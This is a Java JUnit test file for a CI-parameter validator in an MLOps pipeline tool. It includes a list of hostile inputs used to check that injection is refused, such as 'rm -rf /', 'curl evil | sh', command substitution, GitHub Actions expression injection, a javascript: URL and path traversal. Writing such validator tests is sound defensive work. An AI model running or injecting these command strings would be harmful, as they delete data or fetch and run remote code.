package neural.mlops.ci;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import neural.mlops.store.BuildInfo;
import neural.mlops.store.InvalidInputException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class CiParametersTest {

    /** Values an attacker would try in any field of the form or any --set. */
    static final List<String> HOSTILE = List.of(
            "x\"; rm -rf / #",
            "${{ github.event.issue.title }}",
            "$(curl evil)",
            "main\nrun: curl evil | sh",
            "`curl evil`",
            "x'; sh -c 'curl evil",
            "x\u202egnp.exe",
            "line\u2028break");

    @Test
    void everyParameterTheIssueNamesIsDefinedWithAValidDefault() {
        assertThat(CiParameters.definitions()).extracting(Parameter::name).contains(
                "project_name", "model_name", "python_version", "install_command", "test_command", "train_command",
                "metrics_file", "workspace", "staging_endpoint", "production_endpoint", "main_branch",
                "release_tag_pattern", "require_approval", "tool_version", "staging_environment",
                "production_environment");
        for (Parameter parameter : CiParameters.definitions()) {
            assertThat(parameter.problem(parameter.defaultValue())).as(parameter.name()).isEmpty();
            assertThat(parameter.validate(parameter.defaultValue())).isEqualTo(parameter.defaultValue());
            assertThat(parameter.description()).as(parameter.name()).isNotBlank();
        }
    }

    @Test
    void defaultsAreSensible() {
        CiParameters defaults = CiParameters.defaults();
        assertThat(defaults.get("staging_environment")).isEqualTo("staging");
        assertThat(defaults.get("production_environment")).isEqualTo("production");
        assertThat(defaults.get("main_branch")).isEqualTo("main");
        assertThat(defaults.get("release_tag_pattern")).isEqualTo("v*");
        assertThat(defaults.requireApproval()).isTrue();
        assertThat(defaults.get("tool_version")).isEqualTo(BuildInfo.version());
        assertThat(defaults.resolvedToolUrl()).contains(BuildInfo.version()).doesNotContain("{version}");
        assertThat(defaults.sharedWorkspace()).isFalse();
        assertThat(CiParameters.of(Map.of())).isEqualTo(defaults);
        defaults.requireConsistent();
    }

    @Test
    void assignmentsOverrideDefaultsAndTheLastOneWins() {
        CiParameters parameters = CiParameters.parse(List.of("model_name=fraud_detector", "python_version=3.12",
                "python_image=python:3.12-slim@sha256:" + "1".repeat(64), "install_command=pip install -e .[dev]", "model_name=churn", "require_approval=FALSE"));
        assertThat(parameters.get("model_name")).isEqualTo("churn");
        assertThat(parameters.get("python_version")).isEqualTo("3.12");
        assertThat(parameters.get("install_command")).isEqualTo("pip install -e .[dev]");
        assertThat(parameters.get("require_approval")).isEqualTo("false");
        assertThat(parameters.requireApproval()).isFalse();
        assertThat(parameters.get("project_name")).isEqualTo("my-project");
    }

    @Test
    void aValueMayHoldEqualsSignsAndSurroundingSpacesAreIgnored() {
        CiParameters parameters = CiParameters.parse(List.of("staging_endpoint=https://s.example.com/p?a=1&b=2",
                "test_command=  pytest -k 'not slow'  "));
        assertThat(parameters.get("staging_endpoint")).isEqualTo("https://s.example.com/p?a=1&b=2");
        assertThat(parameters.get("test_command")).isEqualTo("pytest -k 'not slow'");
    }

    @Test
    void anUnknownKeyIsRefusedNamingIt() {
        assertThatThrownBy(() -> CiParameters.parse(List.of("modle_name=x")))
                .isInstanceOf(InvalidInputException.class)
                .hasMessageContaining("Unknown parameter 'modle_name'")
                .hasMessageContaining("model_name");
        assertThatThrownBy(() -> CiParameters.defaults().with("nope", "x")).isInstanceOf(InvalidInputException.class);
        assertThatThrownBy(() -> CiParameters.defaults().get("nope")).isInstanceOf(InvalidInputException.class);
    }

    @Test
    void anAssignmentWithoutAnEqualsSignIsRefused() {
        assertThatThrownBy(() -> CiParameters.parse(List.of("model_name")))
                .isInstanceOf(InvalidInputException.class).hasMessageContaining("KEY=VALUE");
        assertThatThrownBy(() -> CiParameters.parse(List.of("=x")))
                .isInstanceOf(InvalidInputException.class).hasMessageContaining("KEY=VALUE");
    }

    static Stream<Arguments> validAndInvalidValues() {
        return Stream.of(
                Arguments.of("project_name", List.of("fraud-detection", "team.a_1"), List.of("Fraud Detection", "-x", "CON", "a/b", "")),
                Arguments.of("model_name", List.of("fraud_detector", "m1"), List.of("fraud detector", "../x", "x.", "é")),
                Arguments.of("framework", List.of("pytorch", "scikit-learn"), List.of("py torch", "")),
                Arguments.of("python_version", List.of("3.11", "3.12.4", "3.9"), List.of("3", "python3.11", "3.x", "3.11-dev", "")),
                Arguments.of("install_command", List.of("pip install -r requirements.txt", "make deps && make build"),
                        List.of("", "pip install\nx", "echo ${{ secrets.TOKEN }}", "a\tb", "a\u0000b")),
                Arguments.of("test_command", List.of("pytest -q", "x\"; rm -rf / #"), List.of("pytest\r", "pytest\u2029")),
                Arguments.of("train_command", List.of("python train.py --epochs 3", "echo $(date) `id`"), List.of("  ")),
                Arguments.of("evaluate_command", List.of("python evaluate.py"), List.of("python\u200b evaluate.py", "x".repeat(1001))),
                Arguments.of("model_path", List.of("artifacts/model.pt", "model.onnx", ".out/m.bin"),
                        List.of("/abs/model.pt", "../model.pt", "a/../b", "a//b", "a/", "-rf", "a b", "a/./b", "_model.pt",
                                "out/CON.pt", "out/model.", "audit-trail/model.pt", "model-handoff/model.pt", ".venv/m.pt")),
                Arguments.of("metrics_file", List.of("metrics.json", "out/eval/metrics.json"), List.of("", "m$.json", "C:\\m.json")),
                Arguments.of("workspace", List.of("mlops-workspace", "/srv/mlops/fraud", "ws/team", "s3://team-bucket",
                                "s3://team-bucket/mlops/fraud", "S3://team-bucket/mlops/"),
                        List.of("/", "", "~/ws", "/srv/../etc", "ws//x", "$HOME/ws", "s3://", "s3://Team_Bucket/x",
                                "s3://user:pw@bucket/x", "s3://team-bucket/a/../b", "gs://bucket/x", "audit-trail", "model-handoff/ws",
                                "ws/CON", "_ws")),
                Arguments.of("ci_user", List.of("ci-pipeline", "bot.1"), List.of("ci pipeline", "")),
                Arguments.of("staging_environment", List.of("staging", "pre-prod"), List.of("stag ing", "NUL")),
                Arguments.of("production_environment", List.of("prod"), List.of("prod/eu")),
                Arguments.of("staging_endpoint", List.of("https://staging.example.com/predict", "http://10.0.0.5:8080/v1/models/m:predict",
                        "https://h.example.com/p?a=1&b=2"),
                        List.of("ftp://example.com/x", "example.com/predict", "https://user:pw@example.com/", "https://",
                                "https://example.com/a b", "https://example.com/{x}", "javascript:alert(1)", "")),
                Arguments.of("production_endpoint", List.of("https://models.example.com/predict"), List.of("https://example.com/$x", "https://example.com/'")),
                Arguments.of("main_branch", List.of("main", "master", "release/2024", "dev_1.x"),
                        List.of("", "-main", "main/", "/main", "a..b", "a//b", "x.lock", "main branch", "main@{1}", "a/.b", "feat:x")),
                Arguments.of("release_tag_pattern", List.of("v*", "release-*", "*", "v*.*.*"),
                        List.of("", "v[0-9]*", "release/*", "-v*", ".v", "v?", "v**..")),
                Arguments.of("require_approval", List.of("true", "false", "True"), List.of("yes", "1", "")),
                Arguments.of("tool_version", List.of("0.1.0", "1.2.3-rc.1", "10.20.30"), List.of("latest", "1.2", "v1.2.3", "1.2.3+build", "")),
                Arguments.of("tool_url", List.of("https://example.com/neural-mlops_{version}_amd64.deb", "https://mirror.example.com/nm.deb"),
                        List.of("https://example.com/{other}.deb", "file:///tmp/x.deb", "")),
                Arguments.of("tool_sha256", List.of("", "a".repeat(64), "ABCDEF0123456789".repeat(4)), List.of("abc", "g".repeat(64))),
                Arguments.of("python_image", List.of("python:3.11@sha256:" + "a".repeat(64), "registry.example.com:5000/ml/py@sha256:"
                        + "0".repeat(64)), List.of("python:3.11", "python@sha256:abc", "Python:3.11@sha256:" + "a".repeat(64), "")),
                Arguments.of("dependency_file", List.of("requirements.txt", "requirements/ci.txt"), List.of("", "/requirements.txt")),
                Arguments.of("timeout_minutes", List.of("1", "60", "4320"), List.of("0", "4321", "-5", "1h", "")),
                Arguments.of("artifact_retention_days", List.of("1", "30", "400"), List.of("0", "401", "30d", "")),
                Arguments.of("aws_region", List.of("us-east-1", "eu-west-1", "local"), List.of("", "US-EAST-1", "us_east_1", "eu-")),
                Arguments.of("aws_role_arn", List.of("", "arn:aws:iam::123456789012:role/neural-mlops-ci",
                        "arn:aws-us-gov:iam::123456789012:role/path/ci@team"), List.of("role/ci", "arn:aws:iam::1234:role/x",
                        "arn:aws:iam::123456789012:user/ci", "arn:aws:iam::123456789012:role/a b")),
                Arguments.of("azure_aws_connection", List.of("neural-mlops-aws"), List.of("", "aws connection")),
                Arguments.of("jenkins_aws_credentials", List.of("", "neural-mlops-aws"), List.of("aws creds", "-x")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("validAndInvalidValues")
    void everyParameterAcceptsItsKindOfValueAndRefusesOthersNamingTheKey(String key, List<String> valid, List<String> invalid) {
        for (String value : valid) {
            assertThat(CiParameters.defaults().with(key, value).get(key)).as(key + " = " + value).isNotNull();
        }
        for (String value : invalid) {
            assertThatThrownBy(() -> CiParameters.defaults().with(key, value))
                    .as(key + " = " + value)
                    .isInstanceOf(InvalidInputException.class)
                    .hasMessageContaining("for parameter " + key);
        }
    }

    @Test
    void everyDataParameterRefusesHostileValues() {
        for (Parameter parameter : CiParameters.definitions()) {
            if (parameter.type() == ParameterType.COMMAND || parameter.type() == ParameterType.OPTIONAL_COMMAND) {
                continue;
            }
            for (String value : HOSTILE) {
                assertThatThrownBy(() -> CiParameters.defaults().with(parameter.name(), value))
                        .as(parameter.name() + " = " + value)
                        .isInstanceOf(InvalidInputException.class)
                        .hasMessageContaining(parameter.name());
            }
        }
    }

    @Test
    void commandsAreTheUsersShellButStayOnOneLineAndFreeOfPlatformExpressions() {
        Parameter train = CiParameters.definition("train_command");
        assertThat(train.problem("x\"; rm -rf / #")).isEmpty();
        assertThat(train.problem("$(curl evil)")).isEmpty();
        assertThat(train.problem("python train.py\ncurl evil")).contains("it must be a single line");
        assertThat(train.problem("echo ${{ github.event.issue.title }}")).get().asString().contains("${{");
        assertThat(train.problem("python\u202e train.py")).get().asString().contains("U+202E");
    }

    @Test
    void theSigningKeySecretIsANameEveryPlatformAcceptsAndNotOneTheToolReadsItself() {
        Parameter secret = CiParameters.definition("signing_key_secret");
        assertThat(CiParameters.defaults().sign()).isFalse();
        assertThat(CiParameters.parse(List.of("sign=TRUE", "signing_key_secret=release_bot_key2")).sign()).isTrue();
        assertThat(secret.problem("RELEASE_BOT_KEY")).isEmpty();
        assertThat(secret.problem("release-bot-key")).hasValueSatisfying(p -> assertThat(p).contains("letters, digits and '_'"));
        assertThat(secret.problem("1KEY")).isPresent();
        assertThat(secret.problem("KEY}} ${{ github.token")).isPresent();
        assertThat(secret.problem("github_signing_key")).hasValueSatisfying(p -> assertThat(p).contains("GITHUB_"));
        assertThat(secret.problem("NEURAL_MLOPS_SIGNING_KEY"))
                .hasValueSatisfying(p -> assertThat(p).contains("the tool reads NEURAL_MLOPS_SIGNING_KEY itself"));
        assertThat(secret.problem("neural_mlops_audit_key")).isPresent();
        assertThatThrownBy(() -> CiParameters.parse(List.of("signing_key_secret=my key")))
                .isInstanceOf(InvalidInputException.class).hasMessageContaining("signing_key_secret");
    }

    @Test
    void theModelAndMetricsFilesNeedDifferentNames() {
        Map<String, String> values = new LinkedHashMap<>();
        values.put("model_path", "out/a/result.json");
        values.put("metrics_file", "out/b/result.json");
        assertThatThrownBy(() -> CiParameters.of(values))
                .isInstanceOf(InvalidInputException.class)
                .hasMessageContaining("for parameter metrics_file");
    }

    @Test
    void stagingAndProductionEnvironmentsMustDifferIgnoringCase() {
        assertThatThrownBy(() -> CiParameters.of(Map.of("production_environment", "staging")))
                .isInstanceOf(InvalidInputException.class)
                .hasMessageContaining("for parameter production_environment");
        assertThatThrownBy(() -> CiParameters.of(Map.of("production_environment", "Staging")))
                .isInstanceOf(InvalidInputException.class)
                .hasMessageContaining("for parameter production_environment").hasMessageContaining("case is ignored");
    }

    @Test
    void aBucketWorkspaceIsRemoteAndKeptInItsCanonicalForm() {
        CiParameters parameters = CiParameters.defaults().with("workspace", "S3://team-bucket/mlops/fraud/");
        assertThat(parameters.get("workspace")).isEqualTo("s3://team-bucket/mlops/fraud");
        assertThat(parameters.remoteWorkspace()).isTrue();
        assertThat(parameters.sharedWorkspace()).isFalse();
        assertThat(CiParameters.defaults().remoteWorkspace()).isFalse();
        assertThatThrownBy(() -> CiParameters.defaults().with("workspace", "s3://ab"))
                .isInstanceOf(InvalidInputException.class).hasMessageContaining("workspace").hasMessageContaining("3 to 63");
    }

    @Test
    void theImageMustBeThePythonVersionTheJobsUse() {
        assertThatThrownBy(() -> CiParameters.parse(List.of("python_version=3.12")))
                .isInstanceOf(InvalidInputException.class).hasMessageContaining("python_image")
                .hasMessageContaining("python:3.12");
        CiParameters custom = CiParameters.parse(List.of("python_version=3.12",
                "python_image=registry.example.com/ml/runner:2@sha256:" + "b".repeat(64)));
        assertThat(custom.get("python_image")).startsWith("registry.example.com/ml/runner:2@");
    }

    @Test
    void anAbsoluteWorkspaceIsShared() {
        assertThat(CiParameters.defaults().with("workspace", "/srv/mlops").sharedWorkspace()).isTrue();
    }

    @Test
    void theErrorMessageShowsControlCharactersEscaped() {
        assertThatThrownBy(() -> CiParameters.defaults().with("main_branch", "main\nx"))
                .hasMessageContaining("'main\\u000ax'")
                .hasMessageNotContaining("\n");
    }

    @Test
    void valuesAreImmutable() {
        CiParameters defaults = CiParameters.defaults();
        CiParameters changed = defaults.with("model_name", "other");
        assertThat(defaults.get("model_name")).isEqualTo("my-model");
        assertThat(changed.get("model_name")).isEqualTo("other");
        assertThatThrownBy(() -> defaults.asMap().put("model_name", "x")).isInstanceOf(UnsupportedOperationException.class);
    }
}
